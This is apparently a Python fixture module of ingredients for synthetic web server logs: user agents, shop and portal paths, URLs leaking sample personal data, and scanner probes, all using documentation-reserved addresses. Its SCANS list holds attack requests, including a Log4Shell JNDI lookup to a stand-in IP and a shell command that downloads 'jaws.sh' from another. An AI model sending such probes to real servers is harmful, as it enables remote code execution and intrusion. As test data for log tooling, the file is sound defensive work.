"""What the samples are made of: sites, pages, agents, and identifiers from ranges that are reserved for documentation."""

from __future__ import annotations

V4 = ("192.0.2.", "198.51.100.", "203.0.113.")
V6 = "2001:db8:"

CHROME = "Mozilla/5.0 ({os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
PEOPLE = (
    CHROME.format(os="Windows NT 10.0; Win64; x64", v=145),
    CHROME.format(os="Windows NT 10.0; Win64; x64", v=144) + " Edg/144.0.0.0",
    CHROME.format(os="Macintosh; Intel Mac OS X 10_15_7", v=145),
    CHROME.format(os="X11; Linux x86_64", v=143),
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Mobile Safari/537.36",
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.3 Mobile/15E148 Safari/604.1"
    ),
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:147.0) Gecko/20100101 Firefox/147.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1",
)
# Agents' own contact pages are replaced by reserved domains; what recognises them is the product's name.
BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +https://bots.example.com/googlebot)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +https://bots.example.com/bingbot)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +https://bots.example.net/yandex)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +https://bots.example.net/robot)",
    "UptimeRobot/2.0 (monitor; contact ops@example.net)",
)
AI_CRAWLERS = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://bots.example.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@example.com)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://bots.example.org/perplexity)",
    "CCBot/2.0 (https://bots.example.org/ccbot)",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider@example.org)",
)
SCANNERS = ("Mozilla/5.0 zgrab/0.x", "masscan/1.3", "python-requests/2.32.3", "-", "curl/8.12.1")

ASSETS = (
    "/static/site.css?v=20260301",
    "/static/app.8f3ac1.js",
    "/static/logo@2x.png",
    "/static/fonts/inter-4.1.woff2",
    "/favicon.ico",
    "/img/banner-1200x400.webp",
)
SHOP_PAGES = (
    "/",
    "/catalogue",
    "/catalogue?page=2&sort=price",
    "/product/1042-oak-shelf",
    "/product/2077-desk-lamp",
    "/product/3310-wool-blanket?colour=grey",
    "/search?q=desk+lamp",
    "/search?q=%D0%BB%D0%B0%D0%BC%D0%BF%D0%B0",
    "/basket",
    "/terms",
    "/contact",
)
PORTAL_PAGES = (
    "/",
    "/login",
    "/dashboard",
    "/invoices",
    "/invoices/2026-0317.pdf",
    "/tickets?state=open",
    "/tickets/48213",
    "/docs/getting-started",
    "/api/v2/status",
    "/search?q=invoice&lang=en",
)
# What should never have been in a URL. Cards are the networks' test numbers, IBANs the registry's examples, telephone
# numbers the ranges that Ofcom and the North American plan keep for fiction.
LEAKS = (
    "/newsletter/confirm?email=jane.doe%40example.com&token=9f2c41d07be84a6b9e15c3da7700f1b2",
    "/newsletter/unsubscribe?e=max.mustermann@example.org",
    "/checkout/address?name=Erika+Musterfrau&street=12+Sample+Road&postcode=SW1A+1AA&tel=%2B44+20+7946+0123",
    "/checkout/pay?card=4111111111111111&exp=12%2F29",
    "/checkout/pay?cc=5555-5555-5555-4444",
    "/refund?iban=GB33BUKB20201555555555&amount=19.90",
    "/refund?iban=DE89+3704+0044+0532+0130+00",
    "/account/reset?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqYW5lQGV4YW1wbGUuY29tIn0.c2FtcGxlLXNpZ25hdHVyZS1vbmx5",
    "/callback?phone=%2B1-202-555-0147",
    "/store-finder?lat=51.50132&lon=-0.14189",
    "/basket;jsessionid=7A1D3C9F2E5B4860AA17",
    "/landing?gclid=EAIaIQobChMI8sample9zX7QIVxQ4GAB1sample&utm_source=ads",
    "/mail/avatars/name%40example.com.png",
    "/orders?filter=customer%253Djohn.smith%2540example.net",
)
REFERERS = (
    "-",
    "-",
    "https://search.example.com/",
    "https://search.example.com/?q=oak+shelf+near+me",
    "https://blog.example.org/2026/03/ten-desk-lamps",
    "https://social.example.net/t/8Xk2",
    "https://webmail.example.net/?_task=mail&_from=anna.schmidt%40example.com&_uid=4711",
    "https://ads.example.com/click?msclkid=5f0c2d7a9b3e4c18&dest=shop",
)
SCANS = (
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/cgi-bin/luci/;stok=/locale",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/?x=${jndi:ldap://198.51.100.77:1389/a}",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction",
    "/shell?cd+/tmp;wget+http://203.0.113.66/jaws.sh",
)
# Requests that were never HTTP, as servers write them: escaped.
NOT_HTTP = (
    r"\x16\x03\x01\x05\xA8\x01\x00\x05\xA4\x03\x03\xC9\x7F",
    r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    "SSH-2.0-Go",
    r"\x05\x01\x00",
    "PRI * HTTP/2.0",
    "-",
    r"GET / HTTP/1.1\x22; DROP",
)
USERS = ("alice", "bob", "carol.meyer", "d.okafor", "svc-backup")
